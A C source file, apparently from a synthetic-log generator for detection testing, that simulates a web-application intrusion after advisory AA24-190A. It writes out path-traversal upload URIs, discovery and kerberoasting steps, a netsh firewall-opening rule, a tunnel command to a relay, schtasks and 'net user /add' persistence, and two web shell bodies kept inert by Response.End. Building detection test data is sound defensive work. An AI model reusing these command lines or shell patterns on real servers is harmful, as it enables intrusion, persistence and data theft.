/*
 * story_webapp.c - a custom web application in the DMZ is used to write files, then as a shell; from there the domain
 * is looked at, a service account's secret is found and tried, tickets are roasted, shares of the DMZ are read, a
 * tunnel is opened and data leaves. After the first case study of AA24-190A. Requests and scripts are shapes only:
 * nothing works.
 */
#include "story.h"

#include <stdarg.h>
#include <stdio.h>

struct webapp {
    struct story *t;
    const struct estate *e;
    uint32_t scout, router, relay; /* first client; a hacked home router; where the tunnel ends */
    const char *scout_agent, *router_agent;
    const struct person *victim;
    char endpoint[64], shells[3][80]; /* URIs */
    const char *tool, *tool_folder, *roasted, *account, *task, *service;
    char pool_user[48], admin_user[64];
    int64_t first, written[3]; /* the shells */
};

static const char *const roastable[] = {"svc-report", "svc-crm", "svc-print", "svc-scan", "svc-share", "svc-wiki",
                                        "svc-bi",     "svc-dwh", "svc-hr",    "svc-cad",  "svc-plm",   "svc-fax"};

static struct process pool_of(const struct webapp *w, int64_t when)
{
    struct process pool = process_resident(&w->e->app2, SYSTEM32 "inetsrv\\w3wp.exe", "w3wp.exe", w->pool_user, when);
    (void)snprintf(pool.command, sizeof pool.command, SYSTEM32 "inetsrv\\w3wp.exe -ap \"%s\" -v \"v4.0\"", w->e->app);
    return pool;
}

static bool ask(struct webapp *w, int64_t when, uint32_t client, const char *method, const char *uri, unsigned status,
                uint64_t sent, uint64_t received, const char *user)
{
    bool scout = client == w->scout;
    struct hit h = {.time = when,
                    .client = client,
                    .method = method,
                    .uri = uri,
                    .status = status,
                    .sent = sent,
                    .received = received,
                    .user = user,
                    .agent = scout ? w->scout_agent : w->router_agent};
    return application_hit(w->t->s, w->t->stream, &h);
}

static void session(struct webapp *w, int64_t when, uint32_t client, uint64_t up, uint64_t down, int64_t lasts)
{
    flow_https(w->t->s, w->t->stream, when, client, w->e->app2.address, w->e->app_site, client == w->scout ? 61 : 17,
               up, down, lasts);
}

/* One command through a web shell: the request, and what the server starts for it. `image` NULL: the shell alone. */
static struct process command(struct webapp *w, int64_t when, uint32_t client, unsigned shell, const char *image,
                              const char *format, ...) __attribute__((format(printf, 6, 7)));

static struct process command(struct webapp *w, int64_t when, uint32_t client, unsigned shell, const char *image,
                              const char *format, ...)
{
    struct chance *c = &w->t->stream->chance;
    struct process pool = pool_of(w, when);
    char line[400];
    va_list args;
    va_start(args, format);
    (void)vsnprintf(line, sizeof line, format, args);
    va_end(args);
    ask(w, when, client, "POST", w->shells[shell], 200, (uint64_t)chance_scaled(c, 1800, 2.5),
        chance_from(c, 300, 1400), NULL);
    struct process cmd = process_start(w->t->s, w->t->stream, when + 120000000, &w->e->app2, &pool, SYSTEM32 "cmd.exe",
                                       w->pool_user, "\"cmd.exe\" /c %s", line);
    if (image == NULL)
        return cmd;
    return process_start(w->t->s, w->t->stream, when + 180000000, &w->e->app2, &cmd, image, w->pool_user, "%s", line);
}

static void choose(struct webapp *w)
{
    static const char *const endpoints[] = {"/Api/Attachment.ashx", "/Documents/Store.ashx", "/Cases/Upload.ashx",
                                            "/Services/Import.ashx"};
    static const char *const folders_of_site[] = {"/Content/images/thumb%02u.aspx", "/Scripts/lib%02u.aspx",
                                                  "/Cases/View%02u.aspx", "/Content/uploads/%02u.aspx"};
    static const char *const tools[] = {"svchelp.exe", "dbgsvc.exe", "wuhost.exe", "netprov.exe"};
    static const char *const folders[] = {"C:\\PerfLogs", "C:\\Windows\\Temp", "C:\\Users\\Public"};
    static const char *const accounts[] = {"support$", "iis_admin", "svcadmin", "backupop"};
    static const char *const tasks[] = {"\\DiagCollect", "\\NetCacheRefresh", "\\LogCompact"};
    static const char *const services[] = {"NetProvHost", "WmiCacheSvc", "DiagRelay"};
    struct chance *c = &w->t->stream->chance;
    const struct world *world = w->t->s->world;
    w->scout = hosting_address(chance_next(c));
    w->router = residential_address(chance_next(c));
    w->relay = hosting_address(chance_next(c));
    w->scout_agent = chance_is(c, 0.5) ? "python-requests/2.31.0" : "Mozilla/5.0 (Windows NT 10.0; Win64; x64)";
    w->router_agent = ordinary_agent(chance_next(c));
    (void)snprintf(w->endpoint, sizeof w->endpoint, "%s", CHANCE_OF(c, endpoints));
    unsigned at = chance_below(c, COUNT(folders_of_site));
    for (unsigned i = 0; i < COUNT(w->shells); i++) {
        const char *place = folders_of_site[(at + i) % COUNT(folders_of_site)];
        const char *mark = strchr(place, '%');
        (void)snprintf(w->shells[i], sizeof w->shells[i], "%.*s%02u%s", (int)(mark - place), place,
                       chance_from(c, 10, 99), mark + 4);
    }
    w->tool = CHANCE_OF(c, tools), w->tool_folder = CHANCE_OF(c, folders), w->account = CHANCE_OF(c, accounts);
    w->task = CHANCE_OF(c, tasks), w->service = CHANCE_OF(c, services), w->roasted = CHANCE_OF(c, roastable);
    (void)snprintf(w->pool_user, sizeof w->pool_user, "IIS APPPOOL\\%s", w->e->app);
    (void)snprintf(w->admin_user, sizeof w->admin_user, "CORP\\%s", w->roasted);
    w->victim = &world->people[0];
    for (unsigned i = 0, start = chance_below(c, world->person_count); i < world->person_count; i++) {
        const struct person *p = &world->people[(start + i) % world->person_count];
        if (!p->admin && !is_dormant(p) && p->zone == ZONE_HEADQUARTERS && p->from < world->start &&
            p->until > world->end)
            w->victim = p;
    }
}

/* --- steps -------------------------------------------------------------------------------------------------------- */

static void look_around(struct webapp *w)
{
    static const char *const words[] = {"admin",  "api",    "upload",  "backup", "test",   "old",
                                        "docs",   "files",  "service", "import", "export", "user",
                                        "report", "config", "data",    "tmp",    "web",    "secure"};
    static const char *const ends[] = {"", "/", ".aspx", ".ashx", ".asmx", ".config", ".bak", ".zip"};
    struct chance *c = &w->t->stream->chance;
    char uri[96];
    story_step(w->t, "first-contact", TACTIC_RECONNAISSANCE, "An address that was never seen opens the front page.");
    w->first = story_time(w->t, 0.05, 3);
    ask(w, w->first, w->scout, "GET", "/", 200, 5214, 420, NULL);
    session(w, w->first - SW_SECOND, w->scout, 900, 6100, 4 * SW_SECOND);
    story_step(w->t, "enumeration", TACTIC_RECONNAISSANCE,
               "It asks for hundreds of paths, most of which aren't there.");
    int64_t when = story_time(w->t, 0.09, 7);
    int64_t begin = when;
    for (unsigned i = 0, n = chance_from(c, 280, 420); i < n; i++) {
        (void)snprintf(uri, sizeof uri, "/%s%s%s%s", words[chance_below(c, COUNT(words))], chance_is(c, 0.5) ? "/" : "",
                       chance_is(c, 0.5) ? words[chance_below(c, COUNT(words))] : "",
                       ends[chance_below(c, COUNT(ends))]);
        bool there = chance_is(c, 0.02);
        ask(w, when, w->scout, "GET", there ? "/Cases/List.aspx" : uri, there ? 302 : 404, there ? 300 : 1245, 310,
            NULL);
        when += chance_from(c, 2, 9) * SW_SECOND;
    }
    session(w, begin - SW_SECOND, w->scout, 120000, 520000, when - begin);
}

/* A shell is written through the endpoint; `from`: by the server's own process. */
static void write_shell(struct webapp *w, int64_t when, uint32_t client, unsigned number)
{
    struct process pool = pool_of(w, when + 200000000);
    char uri[200];
    char path[200];
    w->written[number] = when;
    (void)snprintf(uri, sizeof uri, "%s?name=..%%2f..%%2f%s", w->endpoint, w->shells[number] + 1);
    ask(w, when, client, "POST", uri, 200, 61, 2400, NULL);
    (void)snprintf(path, sizeof path, "%s", w->shells[number]);
    for (char *p = path; *p != '\0'; p++)
        *p = (char)(*p == '/' ? '\\' : *p);
    process_writes(w->t->s, w->t->stream, when + 200000000, &w->e->app2, &pool, "%s%s", w->e->app_root, path);
}

static void break_in(struct webapp *w)
{
    struct chance *c = &w->t->stream->chance;
    char uri[160];
    story_step(w->t, "focus", TACTIC_RECONNAISSANCE, "It stays with one endpoint, which answers with errors.");
    int64_t when = story_time(w->t, 0.13, 11);
    for (unsigned i = 0; i < 26; i++, when += chance_from(c, 6, 70) * SW_SECOND) {
        (void)snprintf(uri, sizeof uri, "%s?name=%s%u", w->endpoint, i % 3 == 0 ? "..%2f" : "a", i);
        ask(w, when, w->scout, i % 4 == 0 ? "GET" : "POST", uri, i % 5 == 0 ? 403 : 500, 1100 + chance_below(c, 400),
            chance_from(c, 300, 2600), NULL);
    }
    story_step(w->t, "upload", TACTIC_INITIAL_ACCESS,
               "The endpoint takes a file name with a way out of its folder: a web shell is written.");
    write_shell(w, when, w->scout, 0);
    story_entry(w->t, w->e->app2.name, "web-request", when, "POST %s", w->endpoint);
    story_step(w->t, "shell-tested", TACTIC_PERSISTENCE,
               "The shell is asked by the first address and minutes later by a home router.");
    int64_t tested = when + 50 * SW_SECOND;
    ask(w, tested, w->scout, "GET", w->shells[0], 200, 0, 380, NULL);
    command(w, tested + 9 * SW_SECOND, w->scout, 0, SYSTEM32 "whoami.exe", "whoami");
    command(w, tested + 4 * MINUTE, w->router, 0, SYSTEM32 "HOSTNAME.EXE", "hostname");
    command(w, tested + 5 * MINUTE, w->router, 0, SYSTEM32 "ipconfig.exe", "ipconfig /all");
    session(w, tested + 4 * MINUTE - SW_SECOND, w->router, 5200, 9100, 3 * MINUTE);
    story_external(w->t, w->scout, "first contact, enumeration, upload");
    story_external(w->t, w->router, "hacked home router: commands, logins, download");
}

static void look_at_host(struct webapp *w)
{
    static const char *const commands[][2] = {
        {"systeminfo.exe", "systeminfo"}, {"tasklist.exe", "tasklist /svc"},
        {"NETSTAT.EXE", "netstat -ano"},  {"net.exe", "net localgroup administrators"},
        {"quser.exe", "quser"},           {"whoami.exe", "whoami /priv"}};
    struct chance *c = &w->t->stream->chance;
    char path[160];
    story_step(w->t, "host-enumeration", TACTIC_DISCOVERY, "Commands through the shell describe the server.");
    int64_t when = story_time(w->t, 0.18, 5);
    session(w, when - SW_SECOND, w->router, 24000, 91000, 40 * MINUTE);
    for (unsigned i = 0; i < COUNT(commands); i++, when += chance_from(c, 20, 200) * SW_SECOND) {
        (void)snprintf(path, sizeof path, SYSTEM32 "%s", commands[i][0]);
        command(w, when, w->router, 0, path, "%s", commands[i][1]);
    }
    story_step(w->t, "more-shells", TACTIC_PERSISTENCE,
               "Two more shells are written to other folders; one is removed later.");
    write_shell(w, when + 70 * SW_SECOND, w->router, 1);
    ask(w, when + 95 * SW_SECOND, w->router, "POST", w->shells[1], 200, 41, 420, NULL);
    write_shell(w, when + 200 * SW_SECOND, w->router, 2);
    ask(w, when + 230 * SW_SECOND, w->router, "POST", w->shells[2], 200, 41, 420, NULL);
    story_step(w->t, "escalation-tried", TACTIC_PRIVILEGE_ESCALATION,
               "A program in a folder that all may write to fails to become SYSTEM.");
    when += 12 * MINUTE;
    struct process pool = pool_of(w, when);
    process_writes(w->t->s, w->t->stream, when, &w->e->app2, &pool, "C:\\Users\\Public\\pt.exe");
    command(w, when + 30 * SW_SECOND, w->router, 0, "C:\\Users\\Public\\pt.exe", "C:\\Users\\Public\\pt.exe -c whoami");
}

static void use_logins(struct webapp *w)
{
    struct chance *c = &w->t->stream->chance;
    struct scenario *s = w->t->s;
    char user[64];
    char uri[64];
    (void)snprintf(user, sizeof user, "CORP\\%s", w->victim->login);
    story_step(w->t, "stolen-login", TACTIC_INITIAL_ACCESS,
               "A user's stolen password opens the application from the home router.");
    int64_t when = story_time(w->t, 0.25, 9);
    story_entry(w->t, w->e->app2.name, "account", when, "%s", w->victim->login);
    session(w, when - SW_SECOND, w->router, 9000, 210000, 25 * MINUTE);
    ask(w, when, w->router, "GET", "/Account/Login.aspx", 200, 4988, 410, NULL);
    ask(w, when + 9 * SW_SECOND, w->router, "POST", "/Account/Login.aspx", 302, 420, 880, user);
    for (unsigned i = 0; i < 12; i++) {
        (void)snprintf(uri, sizeof uri, i % 3 == 0 ? "/Documents/Download.aspx?id=%u" : "/Cases/View.aspx?id=%u",
                       1000 + chance_below(c, 900));
        ask(w, when + (20 + i * 70) * SW_SECOND, w->router, "GET", uri, 200, (uint64_t)chance_scaled(c, 30000, 1), 500,
            user);
    }
    windows_logon(s, w->t->stream, when + 10 * SW_SECOND, w->e->app2.name, w->victim->login, LOGON_NETWORK,
                  w->e->app2.name, w->router, NULL);
    story_account(w->t, w->victim->login, true, NULL, "stolen");
    story_step(w->t, "secret-found", TACTIC_CREDENTIAL_ACCESS, "The application's files are searched for passwords.");
    int64_t found = story_time(w->t, 0.3, 13);
    command(w, found, w->router, 1, SYSTEM32 "findstr.exe", "findstr /s /i /m password %s\\*.config %s\\bin\\*.dll",
            w->e->app_root, w->e->app_root);
    session(w, found - SW_SECOND, w->router, 2000, 31000, 2 * MINUTE);
}

static void try_service(struct webapp *w)
{
    struct chance *c = &w->t->stream->chance;
    struct scenario *s = w->t->s;
    const struct estate *e = w->e;
    const char *const computers[] = {e->files.name, e->building.name, "dc1", "dc2", e->app1.name};
    story_step(w->t, "service-account-tried", TACTIC_CREDENTIAL_ACCESS,
               "The service account from the application's binaries is refused at several computers, for two days.");
    for (unsigned round = 0; round < 3; round++) {
        int64_t when = story_time(w->t, 0.33 + 0.05 * round, 17);
        for (unsigned i = 0; i < COUNT(computers); i++, when += chance_from(c, 30, 200) * SW_SECOND) {
            kerberos_ticket(s, w->t->stream, when, e->app_service, e->app2.address, "0x12", true, "0x18");
            windows_logon(s, w->t->stream, when + SW_SECOND, computers[i], e->app_service, LOGON_NETWORK, e->app2.name,
                          e->app2.address, "0xc000006a");
        }
    }
    story_step(w->t, "service-account-works", TACTIC_LATERAL_MOVEMENT, "An older secret of the same account works.");
    int64_t when = story_time(w->t, 0.47, 21);
    kerberos_ticket(s, w->t->stream, when, e->app_service, e->app2.address, "0x12", true, NULL);
    windows_logon(s, w->t->stream, when + SW_SECOND, e->app1.name, e->app_service, LOGON_NETWORK, NULL, e->app2.address,
                  NULL);
    story_account(w->t, e->app_service, true, NULL, "service");
}

static void look_at_domain(struct webapp *w)
{
    static const char *const commands[][2] = {{"nltest.exe", "nltest /domain_trusts /all_trusts"},
                                              {"net.exe", "net group \"Domain Admins\" /domain"},
                                              {"net.exe", "net view /domain"},
                                              {"gpresult.exe", "gpresult /z"},
                                              {"net.exe", "net view \\\\dc1"},
                                              {"setspn.exe", "setspn -T corp.example.org -Q */*"}};
    struct chance *c = &w->t->stream->chance;
    char path[160];
    story_step(w->t, "domain-enumeration", TACTIC_DISCOVERY,
               "After days of silence the domain is looked at through the second shell.");
    int64_t when = story_time(w->t, 0.56, 5);
    session(w, when - SW_SECOND, w->router, 31000, 410000, 50 * MINUTE);
    for (unsigned i = 0; i < COUNT(commands); i++, when += chance_from(c, 20, 260) * SW_SECOND) {
        (void)snprintf(path, sizeof path, SYSTEM32 "%s", commands[i][0]);
        command(w, when, w->router, 1, path, "%s", commands[i][1]);
    }
    flow_tcp(w->t->s, w->t->stream, when, w->e->app2.address, the(w->t->s->world, ROLE_DC1)->address, 389, "ldap", NULL,
             21000, 2300000, 70 * SW_SECOND);
    story_step(w->t, "kerberoasting", TACTIC_CREDENTIAL_ACCESS, "Tickets of a dozen services are asked for with RC4.");
    when += 6 * MINUTE;
    for (unsigned i = 0; i < COUNT(roastable); i++, when += chance_from(c, 1, 5) * SW_SECOND)
        kerberos_service(w->t->s, w->t->stream, when, w->e->app_service, w->e->app2.address, roastable[i], "0x17");
}

static void mount_shares(struct webapp *w)
{
    static const char *const paths[] = {"BMS\\passwords.xlsx",   "BMS\\manuals\\access-control.pdf",
                                        "plans\\quay-north.dwg", "contracts\\2026\\tender.docx",
                                        "config\\web.config",    "people\\roster.csv"};
    struct chance *c = &w->t->stream->chance;
    struct scenario *s = w->t->s;
    const struct estate *e = w->e;
    const struct machine *const to[] = {&e->files, &e->building, &e->app1};
    const char *const shares[] = {"public", "bms", "C$"};
    story_step(w->t, "shares-read", TACTIC_LATERAL_MOVEMENT,
               "A roasted account mounts shares of the DMZ's computers and reads files.");
    int64_t when = story_time(w->t, 0.63, 9);
    for (unsigned i = 0; i < COUNT(to); i++) {
        kerberos_service(s, w->t->stream, when, w->roasted, e->app2.address, to[i]->name, "0x12");
        windows_logon(s, w->t->stream, when + SW_SECOND, to[i]->name, w->roasted, LOGON_NETWORK, NULL, e->app2.address,
                      NULL);
        for (unsigned k = 0; k < COUNT(paths); k++, when += chance_from(c, 3, 60) * SW_SECOND)
            share_access(s, w->t->stream, when + 2 * SW_SECOND, to[i], w->roasted, e->app2.address, shares[i],
                         paths[k]);
        flow_tcp(s, w->t->stream, when - 3 * MINUTE, e->app2.address, to[i]->address, 445, "smb", NULL, 90000,
                 40000000 + chance_below(c, 90000000), 3 * MINUTE);
        when += chance_from(c, 100, 900) * SW_SECOND;
    }
    story_account(w->t, w->roasted, true, NULL, "roasted");
    story_step(w->t, "inside-denied", TACTIC_LATERAL_MOVEMENT,
               "The firewall refuses the same towards the inner network.");
    for (unsigned i = 0; i < 20; i++, when += chance_from(c, 2, 20) * SW_SECOND) {
        struct machine server = machine_of(s, &s->world->hosts[ROLE_FILE + i % 10], when);
        uint32_t inside = i < 10 ? server.address : ADDRESS(10, 20, 1, 90) + i % 10;
        if (i < 10)
            story_host(w->t, &server, "target");
        flow_tcp(s, w->t->stream, when, e->app2.address, inside, 445, NULL, "S0", 0, 0, -1);
    }
}

static struct process admin_shell(struct webapp *w, int64_t when, const char *image, const char *format, ...)
    __attribute__((format(printf, 4, 5)));

/* As the roasted account, which administers the server: by WMI from the other one. */
static struct process admin_shell(struct webapp *w, int64_t when, const char *image, const char *format, ...)
{
    char line[400];
    va_list args;
    va_start(args, format);
    (void)vsnprintf(line, sizeof line, format, args);
    va_end(args);
    struct process provider = process_resident(&w->e->app2, SYSTEM32 "wbem\\WmiPrvSE.exe",
                                               SYSTEM32 "wbem\\wmiprvse.exe -Embedding", LOCAL_SYSTEM, when);
    struct process cmd = process_start(w->t->s, w->t->stream, when, &w->e->app2, &provider, SYSTEM32 "cmd.exe",
                                       w->admin_user, "cmd.exe /c %s", line);
    return process_start(w->t->s, w->t->stream, when + 60000000, &w->e->app2, &cmd, image, w->admin_user, "%s", line);
}

static void open_tunnel(struct webapp *w, char tool[96])
{
    struct chance *c = &w->t->stream->chance;
    struct scenario *s = w->t->s;
    struct stream *stream = w->t->stream;
    const struct estate *e = w->e;
    char text[16];
    (void)snprintf(tool, 96, "%s\\%s", w->tool_folder, w->tool);
    story_step(w->t, "ports-opened", TACTIC_DEFENSE_EVASION, "The server's own firewall is opened for 9998 and 9999.");
    int64_t when = story_time(w->t, 0.68, 5);
    admin_shell(w, when, SYSTEM32 "netsh.exe",
                "netsh advfirewall firewall add rule name=\"%s\" dir=in action=allow protocol=TCP localport=9998,9999",
                w->service);
    firewall_opened(s, stream, when + SW_SECOND, &e->app2, w->service, tool, "9998,9999",
                    account_sid(w->roasted, (char[64]){0}));
    story_step(w->t, "tunnel", TACTIC_COMMAND_AND_CONTROL,
               "A program for tunnels listens on both ports and calls out, again and again.");
    struct process pool = pool_of(w, when);
    process_writes(s, stream, when + 2 * MINUTE, &e->app2, &pool, "%s", tool);
    struct process tunnel =
        admin_shell(w, when + 4 * MINUTE, tool, "%s -F 9998 -X 9999 -p 443 %s ", tool, address_text(w->relay, text));
    for (unsigned i = 0; i < 5; i++) {
        int64_t at = when + (8 + i * 90) * MINUTE;
        process_connects(s, stream, at, &e->app2, &tunnel, false, e->app1.address, i % 2 == 0 ? 9998 : 9999);
        flow_tcp(s, stream, at, e->app1.address, e->app2.address, i % 2 == 0 ? 9998 : 9999, NULL, NULL, 40000, 90000,
                 11 * MINUTE);
    }
    int64_t until = s->end - 8 * HOUR;
    story_way_back(w->t, "tunnel", e->app2.name, "active", when + 4 * MINUTE, until, "%s to %s:443", tool, text);
    story_way_back(w->t, "listener", e->app2.name, "active", when, until, "tcp/9998");
    story_way_back(w->t, "listener", e->app2.name, "active", when, until, "tcp/9999");
    for (unsigned i = 0; when < until; i++, when += chance_from(c, 570, 640) * SW_SECOND) {
        if (i % 36 == 20) { /* one that lasts */
            flow_https(s, stream, when, e->app2.address, w->relay, NULL, 71, 2000000 + chance_below(c, 900000), 700000,
                       5 * HOUR);
            when += 5 * HOUR;
            continue;
        }
        flow_https(s, stream, when, e->app2.address, w->relay, NULL, 71, 900 + chance_below(c, 200), 1400,
                   9 * SW_SECOND);
        if (i % 9 == 0)
            process_connects(s, stream, when, &e->app2, &tunnel, true, w->relay, 443);
    }
    story_external(w->t, w->relay, "end of the tunnel; data");
}

static void take_data(struct webapp *w)
{
    struct chance *c = &w->t->stream->chance;
    struct scenario *s = w->t->s;
    struct stream *stream = w->t->stream;
    char text[16];
    char archive[64];
    uint64_t by_tunnel = 0;
    story_step(w->t, "archive", TACTIC_COLLECTION,
               "What was read is packed with a password, under the name of a picture.");
    int64_t when = story_time(w->t, 0.75, 7);
    (void)snprintf(archive, sizeof archive, "/Content/images/site%02u.7z", chance_from(c, 10, 99));
    struct process packer = admin_shell(w, when, "C:\\PerfLogs\\7za.exe",
                                        "C:\\PerfLogs\\7za.exe a -p%08x -mhe %s\\Content\\images\\%s C:\\PerfLogs\\d",
                                        (unsigned)chance_next(c), w->e->app_root, strrchr(archive, '/') + 1);
    process_writes(s, stream, when + 4 * MINUTE, &w->e->app2, &packer, "%s\\Content\\images\\%s", w->e->app_root,
                   strrchr(archive, '/') + 1);
    process_writes(s, stream, when + 9 * MINUTE, &w->e->app2, &packer, "C:\\PerfLogs\\d.7z");
    story_step(w->t, "data-out-tunnel", TACTIC_EXFILTRATION,
               "Some hundred megabytes leave through the tunnel's address.");
    int64_t first = story_time(w->t, 0.78, 11);
    int64_t last = first;
    for (unsigned i = 0, n = chance_from(c, 5, 9); i < n; i++, last += chance_from(c, 9, 30) * MINUTE) {
        uint64_t bytes = 28000000 + chance_below(c, 60000000);
        flow_https(s, stream, last, w->e->app2.address, w->relay, NULL, 71, bytes, 60000, 6 * MINUTE);
        by_tunnel += bytes;
    }
    story_data_out(w->t, address_text(w->relay, text), by_tunnel, first, last);
    story_step(w->t, "data-out-web", TACTIC_EXFILTRATION,
               "The archive in the web root is fetched by the home router and removed.");
    uint64_t size = 60000000 + chance_below(c, 120000000);
    when = story_time(w->t, 0.81, 15);
    ask(w, when, w->router, "GET", archive, 200, size, 390, NULL);
    session(w, when - SW_SECOND, w->router, 4000, size + size / 400, 9 * MINUTE);
    story_data_out(w->t, address_text(w->router, text), size, when, when + 9 * MINUTE);
    command(w, when + 14 * MINUTE, w->router, 1, NULL, "del %s\\Content\\images\\%s", w->e->app_root,
            strrchr(archive, '/') + 1);
}

static void stay(struct webapp *w, const char *tool)
{
    struct scenario *s = w->t->s;
    struct stream *stream = w->t->stream;
    const struct estate *e = w->e;
    char path[96];
    story_step(w->t, "task", TACTIC_PERSISTENCE, "A scheduled task starts the tunnel each day.");
    int64_t when = story_time(w->t, 0.84, 5);
    admin_shell(w, when, SYSTEM32 "schtasks.exe",
                "schtasks /create /tn \"%s\" /tr \"%s\" /sc daily /st 02:10 /ru SYSTEM /f", w->task, tool);
    task_registered(s, stream, when + SW_SECOND, &e->app2, w->roasted, w->task, tool, "-F 9998 -p 443");
    story_way_back(w->t, "scheduled-task", e->app2.name, "active", when, when, "%s", w->task);
    story_step(w->t, "service", TACTIC_PERSISTENCE, "A service does the same on the other server.");
    when += 22 * MINUTE;
    windows_logon(s, stream, when - 9 * SW_SECOND, e->app1.name, w->roasted, LOGON_NETWORK, NULL, e->app2.address,
                  NULL);
    service_installed(s, stream, when, &e->app1, w->service, tool, "LocalSystem");
    story_way_back(w->t, "service", e->app1.name, "active", when, when, "%s", w->service);
    story_step(w->t, "local-account", TACTIC_PERSISTENCE,
               "A local administrator is added and used through the tunnel.");
    when += 31 * MINUTE;
    admin_shell(w, when, SYSTEM32 "net.exe", "net user %s Inert-%04u /add", w->account,
                chance_from(&stream->chance, 1000, 9999));
    admin_shell(w, when + 20 * SW_SECOND, SYSTEM32 "net.exe", "net localgroup administrators %s /add", w->account);
    local_account(s, stream, when + SW_SECOND, &e->app2, w->roasted, w->account, "Administrators");
    int64_t used = story_time(w->t, 0.93, 9);
    local_logon(s, stream, used, &e->app2, w->account, LOGON_REMOTE, e->app2.name, "127.0.0.1");
    story_way_back(w->t, "account", e->app2.name, "active", when, used, "%s", w->account);
    story_account(w->t, w->account, false, e->app2.name, "created");
    story_step(w->t, "shell-removed", TACTIC_DEFENSE_EVASION, "The third shell is removed.");
    (void)snprintf(path, sizeof path, "%s", w->shells[2]);
    for (char *p = path; *p != '\0'; p++)
        *p = (char)(*p == '/' ? '\\' : *p);
    int64_t removed = story_time(w->t, 0.88, 3);
    command(w, removed, w->router, 1, NULL, "del %s%s", e->app_root, path);
    story_step(w->t, "returns", TACTIC_COMMAND_AND_CONTROL, "The shells are used now and then, to the end.");
    for (unsigned i = 0; i < 4; i++) {
        when = story_time(w->t, 0.9 + 0.02 * i, 19);
        command(w, when, w->router, i % 2, SYSTEM32 "tasklist.exe", "tasklist");
        session(w, when - SW_SECOND, w->router, 2100, 9000, MINUTE);
    }
    story_way_back(w->t, "web-shell", e->app2.name, "active", w->written[0], when, "%s", w->shells[0]);
    story_way_back(w->t, "web-shell", e->app2.name, "active", w->written[1], when, "%s", w->shells[1]);
    story_way_back(w->t, "web-shell", e->app2.name, "removed", w->written[2], removed, "%s", w->shells[2]);
}

/* The copy of the web root was made at the end. What the pages would do is never reached. */
static void leave_files(struct webapp *w)
{
    char path[200];
    for (unsigned i = 0; i < 2; i++) {
        (void)snprintf(path, sizeof path, "inetpub/%s%s", w->e->app, w->shells[i]);
        webroot_file(
            w->t->s, &w->e->app2, path,
            i == 0 ? "<%@ Page Language=\"C#\" %>\r\n<% Response.End();\r\n/* an inert example, made for a test of "
                     "detection */\r\nSystem.Diagnostics.Process.Start(\"cmd\", Request[\"q\"]); %>\r\n"
                   : "<%@ Page Language=\"Jscript\" %>\r\n<% Response.End(); /* an inert example */\r\n"
                     "eval(Request.Item[\"z\"], \"unsafe\"); %>\r\n");
    }
}

void story_webapp(struct story *t)
{
    struct webapp w = {.t = t, .e = t->estate};
    const struct world *world = t->s->world;
    char tool[96];
    choose(&w);
    look_around(&w);
    break_in(&w);
    look_at_host(&w);
    use_logins(&w);
    try_service(&w);
    look_at_domain(&w);
    mount_shares(&w);
    open_tunnel(&w, tool);
    take_data(&w);
    stay(&w, tool);
    leave_files(&w);
    story_host(t, &w.e->app2, "compromised");
    story_host(t, &w.e->app1, "compromised");
    story_host(t, &w.e->files, "accessed");
    story_host(t, &w.e->building, "accessed");
    struct machine dc1 = machine_of(t->s, the(world, ROLE_DC1), t->s->start);
    struct machine dc2 = machine_of(t->s, the(world, ROLE_DC2), t->s->start);
    story_host(t, &dc1, "witness");
    story_host(t, &dc2, "witness");
}
